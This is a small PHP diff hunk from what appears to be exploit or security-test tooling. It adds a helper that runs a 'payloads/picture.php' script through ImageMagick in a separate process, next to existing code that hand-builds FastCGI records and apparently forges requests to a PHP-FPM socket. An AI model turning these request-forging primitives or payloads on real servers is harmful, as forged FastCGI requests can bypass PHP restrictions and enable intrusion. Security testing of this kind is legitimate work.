@@ -22,6 +22,9 @@ $start = function (array $words): string {
     return (string) $said;
 };
 
+// What the last of some names shows, read by ImageMagick in another process; nothing if it cannot.
+$look = fn (array $names): string => $start(['/usr/bin/php', '-n', '-d', 'extension=imagick', "$payloads/picture.php", ...$names]);
+
 $pair = fn (string $name, string $value): string => pack('NN', strlen($name) | 1 << 31, strlen($value) | 1 << 31) . $name . $value;
 $record = fn (int $type, string $content): string => pack('CCnnCC', 1, $type, 1, strlen($content), 0, 0) . $content;
 $forge = function (string $socket) use ($pair, $record): string {
